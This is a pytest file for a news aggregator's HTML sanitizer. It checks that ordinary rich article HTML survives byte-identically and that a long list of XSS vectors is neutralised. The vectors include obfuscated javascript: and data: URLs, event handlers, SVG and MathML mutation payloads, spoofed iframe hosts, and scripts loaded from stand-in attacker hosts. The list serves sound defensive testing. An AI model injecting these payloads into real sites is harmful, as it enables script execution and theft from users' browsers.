@@ -1,0 +1,560 @@
+"""Tests for aggregator.sanitize: XSS vectors must die, ordinary article HTML must survive byte-identically."""
+
+from __future__ import annotations
+
+import html
+import random
+import re
+from concurrent.futures import ThreadPoolExecutor
+from html.parser import HTMLParser
+from urllib.parse import urlsplit
+
+import pytest
+
+from aggregator.sanitize import html_to_text, sanitize_html
+
+BASE = "http://finews.zning.xyz/html_News/x.html"
+SANDBOX = "allow-scripts allow-same-origin allow-popups"
+IFRAME_HOSTS = {
+    "youtube.com",
+    "www.youtube.com",
+    "www.youtube-nocookie.com",
+    "player.vimeo.com",
+    "player.bilibili.com",
+    "v.qq.com",
+    "www.dailymotion.com",
+}
+
+# --------------------------------------------------------------------------- output inspection
+
+
+class _Collector(HTMLParser):
+    """Records every start tag with its (already entity-decoded) attributes."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, attrs))
+
+    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, attrs))
+
+
+def parse_tags(markup: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
+    collector = _Collector()
+    collector.feed(markup)
+    collector.close()
+    return collector.tags
+
+
+FORBIDDEN_TAGS = {
+    "script", "style", "object", "embed", "applet", "form", "input", "button", "textarea", "select",
+    "option", "base", "meta", "link", "svg", "math", "frame", "frameset", "template", "noscript", "xmp",
+    "body", "html", "head", "title", "marquee", "isindex", "keygen", "image", "param", "animate", "set",
+}  # fmt: skip
+URL_ATTRS = {
+    "href", "src", "srcset", "poster", "cite", "action", "formaction", "xlink:href", "background",
+    "data", "lowsrc", "dynsrc", "codebase", "longdesc", "usemap", "ping", "manifest", "icon",
+}  # fmt: skip
+FORBIDDEN_ATTRS = {"style", "id", "name", "srcdoc", "formaction", "action", "xmlns", "xlink:href", "background"}
+DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:", "mocha:")
+_JUNK = re.compile(r"[\x00-\x20\x7f]+")
+
+
+def _normalise_url(value: str) -> str:
+    """What a browser would see: decoded once more, controls/whitespace/quotes removed, lowercased."""
+    return _JUNK.sub("", html.unescape(value)).lstrip("`'\"").lower()
+
+
+def _srcset_urls(value: str) -> list[str]:
+    return [part.strip().split()[0] for part in value.split(",") if part.strip()]
+
+
+def assert_safe(output: str) -> None:
+    """Structural checks on sanitized output, via a real HTML parser rather than substrings."""
+    assert "<script" not in output.lower()
+    for tag, attrs in parse_tags(output):
+        assert tag not in FORBIDDEN_TAGS, (tag, output)
+        names = [name for name, _ in attrs]
+        for name, value in attrs:
+            assert not name.startswith("on"), (tag, name, output)
+            assert name not in FORBIDDEN_ATTRS, (tag, name, output)
+            if name in URL_ATTRS and value is not None:
+                urls = _srcset_urls(value) if name == "srcset" else [value]
+                for url in urls:
+                    norm = _normalise_url(url)
+                    if tag == "img" and name == "src" and norm.startswith("data:image/"):
+                        continue
+                    assert not norm.startswith(DANGEROUS_SCHEMES), (tag, name, value, output)
+        if tag == "iframe":
+            attr_map = dict(attrs)
+            src = attr_map.get("src") or ""
+            parts = urlsplit(src)
+            assert parts.scheme == "https" and parts.hostname in IFRAME_HOSTS, output
+            assert "\\" not in src and "@" not in parts.netloc, output
+            assert attr_map.get("sandbox") == SANDBOX, output
+            assert names.count("sandbox") == 1, output
+
+
+# --------------------------------------------------------------------------- XSS vectors
+
+XSS_VECTORS: list[str] = [
+    # script in every context
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    '<script/xss src="http://xss.rocks/xss.js"></script>',
+    '<<script>alert("XSS");//<</script>',
+    "<script>alert(1)",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    '"><script>alert(1)</script>',
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "<template><script>alert(1)</script></template>",
+    "<xmp><script>alert(1)</script></xmp>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>',
+    '<!--<img src="--><img src=x onerror=alert(1)//">',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<style><img src="</style><img src=x onerror=alert(1)//">',
+    # event handlers on many tags
+    "<img src=x onerror=alert(1)>",
+    "<image src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    '<div onmouseover="alert(1)">x</div>',
+    '<a onclick="alert(1)" href="#">x</a>',
+    "<details open ontoggle=alert(1)>x</details>",
+    '<video><source onerror="alert(1)"></video>',
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<isindex type=image src=1 onerror=alert(1)>",
+    "<input onfocus=alert(1) autofocus>",
+    "<textarea onfocus=alert(1) autofocus>x</textarea>",
+    "<select onfocus=alert(1) autofocus><option>x</option></select>",
+    "<keygen autofocus onfocus=alert(1)>",
+    "<x onclick=alert(1)>x</x>",
+    "<p ONCLICK=alert(1) onClick=alert(2)>x</p>",
+    "<div><img src=x onerror=alert(1)//</div>",
+    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
+    "<table><tr><td onmouseover=alert(1)>x</td></tr></table>",
+    # javascript: URLs, obfuscated
+    "<IMG SRC=\"javascript:alert('XSS');\">",
+    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
+    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
+    "<IMG SRC=" + "".join(f"&#{ord(c)};" for c in "javascript:alert('XSS')") + ">",
+    "<IMG SRC=" + "".join(f"&#{ord(c):07d}" for c in "javascript:alert('XSS')") + ">",
+    "<IMG SRC=" + "".join(f"&#x{ord(c):X}" for c in "javascript:alert('XSS')") + ">",
+    '<a href="jav&#x09;ascript:alert(1)">x</a>',
+    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
+    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
+    '<a href="jav\tascript:alert(1)">x</a>',
+    '<a href="javascript\n:alert(1)">x</a>',
+    '<a href="java&Tab;script:alert(1)">x</a>',
+    '<a href="java&NewLine;script:alert(1)">x</a>',
+    '<a href="java\x00script:alert(1)">x</a>',
+    '<a href="javas\x00cript:alert(1)">x</a>',
+    '<a href="&#14;javascript:alert(1)">x</a>',
+    '<a href=" &#14;  javascript:alert(1)">x</a>',
+    '<a href="\x01\x02\x03javascript:alert(1)">x</a>',
+    '<a href="  javascript:alert(1)">x</a>',
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '<a href="javascript&colon;alert(1)">x</a>',
+    "<a href=javascript&#58;alert(1)>x</a>",
+    '<a href="&#x6A;avascript:alert(1)">x</a>',
+    '<a href="&#x26;#106;avascript:alert(1)">x</a>',
+    '<a href="java&#x09;script&#x3A;alert(1)">x</a>',
+    '<a href="javascript:alert(1)" id="x" name="y">x</a>',
+    # vbscript: and data:
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<a href="VBSCRIPT:msgbox(1)">x</a>',
+    '<img src="vbscript:msgbox(1)">',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+    '<a href="data:text/html;charset=utf-8,<script>alert(1)</script>">x</a>',
+    '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>',
+    '<img src="data:text/html,<script>alert(1)</script>">',
+    '<img src="x" srcset="javascript:alert(1) 1x, data:text/html,x 2x">',
+    '<img src="data:image/png;base64,AAAA" srcset="data:image/png;base64,AAAA 1x">',
+    '<video poster="javascript:alert(1)" src="data:text/html,x"></video>',
+    '<picture><source srcset="javascript:alert(1)" src="javascript:alert(2)"><img src="vbscript:x"></picture>',
+    '<video><track src="javascript:alert(1)"></video>',
+    '<blockquote cite="javascript:alert(1)">x</blockquote>',
+    '<q cite="vbscript:x">x</q>',
+    '<img dynsrc="javascript:alert(1)"><img lowsrc="javascript:alert(1)">',
+    # SVG / MathML / mutation XSS
+    "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
+    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
+    "<svg><style>{font-family:'<iframe/onload=confirm(1)>'}</style></svg>",
+    '<a xlink:href="javascript:alert(1)">x</a>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    '<math href="javascript:alert(1)">CLICK</math>',
+    # iframes
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<iframe src="https://evil.example/"></iframe>',
+    '<iframe src="http://www.youtube.com/embed/x"></iframe>',
+    '<iframe src="https://www.youtube.com.evil.com/embed/x"></iframe>',
+    '<iframe src="https://evil.com\\@www.youtube.com/"></iframe>',
+    '<iframe src="https://evil.com@www.youtube.com/"></iframe>',
+    '<iframe src="https://www.youtube.com/embed/x" onload="alert(1)" sandbox="allow-top-navigation"></iframe>',
+    '<iframe src="https://www.youtube.com/embed/x"><script>alert(1)</script></iframe>',
+    '<frameset><frame src="javascript:alert(1)"></frameset>',
+    # plugins, forms, document-level elements
+    '<object data="javascript:alert(1)"></object>',
+    '<object type="text/x-scriptlet" data="http://xss.rocks/scriptlet.html"></object>',
+    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+    '<embed src="javascript:alert(1)">',
+    '<applet code="x" archive="y"></applet>',
+    '<form action="javascript:alert(1)"><input type=submit></form>',
+    "<form><button formaction=javascript:alert(1)>x</button></form>",
+    '<input type="image" src="javascript:alert(1)">',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<meta http-equiv="refresh" content="0; url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
+    '<base href="javascript:alert(1)//">',
+    '<link rel="import" href="http://evil.example/x.html">',
+    '<link rel="stylesheet" href="javascript:alert(1)">',
+    '<img src="x" name="getElementById" id="cookie">',
+    # CSS
+    "<style>@import 'http://evil.example/xss.css';</style>",
+    '<style>body{background:url("javascript:alert(1)")}</style>',
+    '<div style="width: expression(alert(1));">x</div>',
+    '<div style="background-image: url(javascript:alert(1))">x</div>',
+    '<p style="behavior: url(xss.htc);">x</p>',
+    '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
+    '<img src="https://ok.example/a.png" style="x:expression(alert(1))">',
+    '<BODY BACKGROUND="javascript:alert(1)">',
+    '<table background="javascript:alert(1)"><tr><td background="javascript:alert(2)">x</td></tr></table>',
+]
+
+
+@pytest.mark.parametrize("base_url", [None, BASE], ids=["no-base", "base"])
+@pytest.mark.parametrize("vector", XSS_VECTORS, ids=[f"xss{i:03d}" for i in range(len(XSS_VECTORS))])
+def test_xss_vector_neutralised(vector: str, base_url: str | None) -> None:
+    output = sanitize_html(vector, base_url)
+    assert_safe(output)
+    # sanitizing again must be stable and still safe (no mutation on re-parse)
+    assert sanitize_html(output, base_url) == output
+
+
+def test_vector_count() -> None:
+    assert len(XSS_VECTORS) >= 60
+
+
+def test_script_and_style_contents_removed_not_shown() -> None:
+    out = sanitize_html("<p>a</p><script>alert('x')</script><style>p{}</style><noscript>ns</noscript><p>b</p>")
+    assert out == "<p>a</p><p>b</p>"
+    assert sanitize_html("<svg><text>hidden</text></svg><textarea>t</textarea>ok") == "ok"
+
+
+def test_malicious_base_url_cannot_create_script_urls() -> None:
+    for base in ("javascript:alert(1)//", "data:text/html,x/", "vbscript:x//", "  JAVASCRIPT:x/"):
+        out = sanitize_html('<a href="x">l</a><img src="/y.png"><img srcset="z.png 2x">', base)
+        assert_safe(out)
+
+
+def test_disallowed_tags_keep_their_text() -> None:
+    assert sanitize_html("<font color=red>hi</font> <blink>there</blink>") == "hi there"
+    assert sanitize_html("<form><p>inside</p></form>") == "<p>inside</p>"
+
+
+# --------------------------------------------------------------------------- ordinary rich HTML
+
+RICH = """<h2>标题 Heading</h2>
+<p class="lead">Intro with <em>em</em>, <strong>strong</strong>, <b>b</b>, <i>i</i>, <u>u</u>, <s>s</s>, \
+<del>del</del>, <ins>ins</ins>, H<sub>2</sub>O, x<sup>2</sup>, <small>small</small>, <mark>mark</mark>, \
+<abbr title="HyperText Markup Language">HTML</abbr>, <kbd>Ctrl</kbd>, <samp>out</samp>, <var>x</var>, \
+<q>quote</q>, <cite>Cite</cite>, <time datetime="2024-01-02">2 Jan</time>, <span class="x">span</span>.<br>
+Second line.</p>
+<hr>
+<table class="data">
+  <caption>Results</caption>
+  <thead>
+    <tr><th colspan="2">Name &amp; value</th></tr>
+  </thead>
+  <tbody>
+    <tr><td>a</td><td rowspan="2">1</td></tr>
+    <tr><td>b</td></tr>
+  </tbody>
+  <tfoot>
+    <tr><td colspan="2">total</td></tr>
+  </tfoot>
+</table>
+<figure>
+  <img src="https://cdn.example.com/p.jpg" alt="描述" title="t" width="640" height="480">
+  <figcaption>图一：说明</figcaption>
+</figure>
+<pre><code class="language-python">if a &lt; b and b &gt; c:
+    print("&amp;")
+</code></pre>
+<ul>
+  <li>one
+    <ol start="3">
+      <li>nested</li>
+    </ol>
+  </li>
+  <li>two</li>
+</ul>
+<dl><dt>term</dt><dd>definition</dd></dl>
+<blockquote cite="https://example.com/source"><p>Quoted 「中文」 text.</p></blockquote>
+<details><summary>More</summary><p>hidden</p></details>
+<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>
+<p class="em_media">（文章来源：张掖日报）</p>
+"""
+
+
+def test_rich_html_survives_byte_identical() -> None:
+    assert sanitize_html(RICH) == RICH
+    assert sanitize_html(RICH, BASE) == RICH
+
+
+def test_em_media_paragraph_byte_identical() -> None:
+    src = '<p class="em_media">（文章来源：张掖日报）</p>'
+    assert sanitize_html(src) == src
+    assert sanitize_html(src, BASE) == src
+
+
+def test_whitespace_and_cjk_preserved_exactly() -> None:
+    src = "<p>　　第一段，中文内容。</p>\n\n\t<p>Second  paragraph\r\nline</p>\n"
+    out = sanitize_html(src, BASE)
+    assert out == src.replace("\r\n", "\n")  # the HTML parser normalises CRLF, nothing else changes
+
+
+def test_headings_all_levels() -> None:
+    src = "".join(f"<h{n}>h{n}</h{n}>" for n in range(1, 7))
+    assert sanitize_html(src) == src
+
+
+def test_class_kept_on_any_element_id_and_style_dropped() -> None:
+    assert (
+        sanitize_html('<div class="a b"><span class="c">x</span></div>')
+        == '<div class="a b"><span class="c">x</span></div>'
+    )
+    assert sanitize_html('<p id="x" style="color:red" class="k">t</p>') == '<p class="k">t</p>'
+
+
+def test_link_gets_rel() -> None:
+    out = sanitize_html('<a href="https://example.com/a" rel="opener" target="_blank">x</a>')
+    assert out == '<a href="https://example.com/a" rel="noopener noreferrer">x</a>'
+
+
+def test_relative_link_resolved() -> None:
+    out = sanitize_html('<a href="y.html?a=1&amp;b=2#f">x</a>', BASE)
+    assert out == '<a href="http://finews.zning.xyz/html_News/y.html?a=1&amp;b=2#f" rel="noopener noreferrer">x</a>'
+
+
+def test_relative_img_resolved() -> None:
+    out = sanitize_html('<img src="/images/a.jpg" alt="a">', BASE)
+    assert out == '<img src="http://finews.zning.xyz/images/a.jpg" alt="a">'
+
+
+def test_relative_urls_kept_without_base() -> None:
+    assert sanitize_html('<img src="/images/a.jpg">') == '<img src="/images/a.jpg">'
+
+
+def test_protocol_relative_resolved() -> None:
+    assert sanitize_html('<img src="//cdn.example.com/a.jpg">', BASE) == '<img src="http://cdn.example.com/a.jpg">'
+
+
+def test_absolute_urls_untouched() -> None:
+    src = '<a href="HTTPS://Example.com/a/../b?#" rel="noopener noreferrer">x</a>'
+    assert sanitize_html(src, BASE) == src
+
+
+def test_srcset_each_candidate_resolved() -> None:
+    out = sanitize_html('<img src="a.jpg" srcset="a.jpg 1x, /img/b.jpg 2x,https://cdn.example.com/c.jpg 640w">', BASE)
+    tag, attrs = parse_tags(out)[0]
+    attr_map = dict(attrs)
+    assert attr_map["src"] == "http://finews.zning.xyz/html_News/a.jpg"
+    assert attr_map["srcset"] == (
+        "http://finews.zning.xyz/html_News/a.jpg 1x, http://finews.zning.xyz/img/b.jpg 2x, "
+        "https://cdn.example.com/c.jpg 640w"
+    )
+
+
+def test_srcset_with_commas_in_url_and_bad_candidates() -> None:
+    out = sanitize_html('<img srcset="/a,b.jpg 1x, javascript:alert(1) 2x, /c.jpg 3x">', BASE)
+    srcset = dict(parse_tags(out)[0][1])["srcset"]
+    assert srcset == "http://finews.zning.xyz/a,b.jpg 1x, http://finews.zning.xyz/c.jpg 3x"
+
+
+def test_absolute_srcset_byte_identical() -> None:
+    src = '<picture><source srcset="https://e.com/a.webp 1x,https://e.com/b.webp 2x" type="image/webp"><img src="https://e.com/a.jpg"></picture>'
+    assert sanitize_html(src, BASE) == src
+
+
+def test_video_audio_poster_resolved() -> None:
+    out = sanitize_html(
+        '<video src="v.mp4" poster="/p.jpg" controls><source src="v.webm" type="video/webm"></video>', BASE
+    )
+    assert out == (
+        '<video src="http://finews.zning.xyz/html_News/v.mp4" poster="http://finews.zning.xyz/p.jpg" controls="">'
+        '<source src="http://finews.zning.xyz/html_News/v.webm" type="video/webm"></video>'
+    )
+    assert sanitize_html('<audio src="a.mp3" controls></audio>', BASE) == (
+        '<audio src="http://finews.zning.xyz/html_News/a.mp3" controls=""></audio>'
+    )
+
+
+def test_blockquote_cite_resolved() -> None:
+    out = sanitize_html('<blockquote cite="/src">q</blockquote>', BASE)
+    assert out == '<blockquote cite="http://finews.zning.xyz/src">q</blockquote>'
+
+
+def test_data_image_only_on_img_src() -> None:
+    img = '<img src="data:image/png;base64,iVBORw0KGgo=">'
+    assert sanitize_html(img) == img
+    assert sanitize_html('<a href="data:image/png;base64,iVBORw0KGgo=">x</a>') == '<a rel="noopener noreferrer">x</a>'
+    assert sanitize_html('<video poster="data:image/png;base64,AAAA"></video>') == "<video></video>"
+    assert sanitize_html('<img src="data:text/html,hi">') == "<img>"
+
+
+def test_safe_link_schemes_kept() -> None:
+    for url in ("mailto:a@example.com", "tel:+123", "magnet:?xt=urn:btih:abc", "#frag", "?q=1", "/path"):
+        out = sanitize_html(f'<a href="{url}">x</a>')
+        assert dict(parse_tags(out)[0][1])["href"] == url
+
+
+# --------------------------------------------------------------------------- iframes
+
+
+def test_youtube_iframe_kept_with_sandbox() -> None:
+    src = '<iframe src="https://www.youtube.com/embed/abc" width="560" height="315" allowfullscreen></iframe>'
+    out = sanitize_html(src, BASE)
+    assert out == (
+        '<iframe src="https://www.youtube.com/embed/abc" width="560" height="315" allowfullscreen="" '
+        f'sandbox="{SANDBOX}"></iframe>'
+    )
+    assert_safe(out)
+
+
+@pytest.mark.parametrize("host", sorted(IFRAME_HOSTS))
+def test_every_allowed_iframe_host(host: str) -> None:
+    out = sanitize_html(f'<iframe src="https://{host}/embed/1"></iframe>')
+    assert out == f'<iframe src="https://{host}/embed/1" sandbox="{SANDBOX}"></iframe>'
+
+
+def test_protocol_relative_iframe_upgraded_to_https() -> None:
+    out = sanitize_html('<iframe src="//player.vimeo.com/video/1"></iframe>', BASE)
+    assert out == f'<iframe src="https://player.vimeo.com/video/1" sandbox="{SANDBOX}"></iframe>'
+
+
+def test_existing_sandbox_replaced() -> None:
+    out = sanitize_html('<iframe src="https://www.youtube.com/embed/a" sandbox="allow-top-navigation"></iframe>')
+    attrs = parse_tags(out)[0][1]
+    assert [v for k, v in attrs if k == "sandbox"] == [SANDBOX]
+
+
+@pytest.mark.parametrize(
+    "src",
+    [
+        "https://evil.example/embed",
+        "http://www.youtube.com/embed/a",
+        "https://www.youtube.com.evil.example/",
+        "https://evil.example\\@www.youtube.com/",
+        "https://www.youtube.com:8443/embed/a",
+        "/embed/a",
+        "",
+    ],
+)
+def test_non_allowed_iframe_removed(src: str) -> None:
+    assert sanitize_html(f'<p>a</p><iframe src="{src}">fallback</iframe><p>b</p>', BASE) == "<p>a</p><p>b</p>"
+
+
+def test_iframe_without_src_removed() -> None:
+    assert sanitize_html("<iframe></iframe>x") == "x"
+
+
+def test_iframe_raw_content_dropped() -> None:
+    out = sanitize_html('<iframe src="https://www.youtube.com/embed/a"><img src=x onerror=alert(1)></iframe>')
+    assert out == f'<iframe src="https://www.youtube.com/embed/a" sandbox="{SANDBOX}"></iframe>'
+
+
+# --------------------------------------------------------------------------- robustness
+
+
+@pytest.mark.parametrize(
+    "junk",
+    [
+        "",
+        "\x00",
+        "\x00" * 100,
+        "<",
+        "<<<>>>",
+        "</",
+        "<!--",
+        "<a href=",
+        "\ud800\udfff lone surrogates \udcff",
+        "\ufeff\ufffe\uffff",
+        "<" + "div>" * 5000,
+        "<p>" + "x" * 1_000_000 + "</p>",
+        "&#0;&#xD800;&#x110000;&#99999999999;",
+    ],
+    ids=lambda s: repr(s[:20]),
+)
+def test_never_raises_on_junk(junk: str) -> None:
+    out = sanitize_html(junk, BASE)
+    assert isinstance(out, str)
+    assert "\x00" not in out
+    assert isinstance(html_to_text(junk), str)
+
+
+def test_random_junk_never_raises() -> None:
+    rng = random.Random(1234)
+    alphabet = "<>/=\"' &#;:abcdefghijklmnopqrstuvwxyzSCRIPTjavascript\x00\t\n"
+    for _ in range(300):
+        junk = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 200)))
+        junk += "".join(chr(rng.randint(0, 0x10FFFF)) for _ in range(rng.randint(0, 20)))
+        out = sanitize_html(junk, BASE)
+        assert_safe(out)
+        html_to_text(junk)
+
+
+def test_binary_decoded_as_text() -> None:
+    blob = bytes(range(256)) * 10
+    for text in (blob.decode("latin-1"), blob.decode("utf-8", "surrogateescape"), blob.decode("utf-8", "replace")):
+        assert_safe(sanitize_html(text, BASE))
+        assert isinstance(html_to_text(text), str)
+
+
+def test_base_url_is_per_call_across_threads() -> None:
+    def run(i: int) -> str:
+        return sanitize_html('<img src="a.jpg">', f"https://host{i}.example/dir/")
+
+    with ThreadPoolExecutor(max_workers=8) as pool:
+        results = list(pool.map(run, range(200)))
+    assert results == [f'<img src="https://host{i}.example/dir/a.jpg">' for i in range(200)]
+    assert sanitize_html('<img src="a.jpg">') == '<img src="a.jpg">'
+
+
+# --------------------------------------------------------------------------- html_to_text
+
+
+def test_text_entities_and_tags() -> None:
+    assert html_to_text("Tom &amp; <b>Jerry</b>") == "Tom & Jerry"
+
+
+def test_text_cjk_intact() -> None:
+    assert html_to_text("<p>（文章来源：张掖日报）</p>") == "（文章来源：张掖日报）"
+    assert html_to_text("甘肃<em>张掖</em>日报") == "甘肃张掖日报"
+
+
+def test_text_whitespace_collapsed() -> None:
+    assert html_to_text("  a \n\n\t b&nbsp;&nbsp;c  ") == "a b c"
+    assert html_to_text("<p>one</p><p>two</p><br>three<li>four</li>") == "one two three four"
+
+
+def test_text_drops_script_and_style() -> None:
+    assert html_to_text("<style>p{}</style>x<script>alert(1)</script>y") == "xy"
+
+
+def test_text_plain_input_and_literal_brackets() -> None:
+    assert html_to_text("AT&T says a < b > c") == "AT&T says a < b > c"
+    assert html_to_text("&lt;b&gt;not a tag&lt;/b&gt;") == "<b>not a tag</b>"
+    assert html_to_text("") == ""
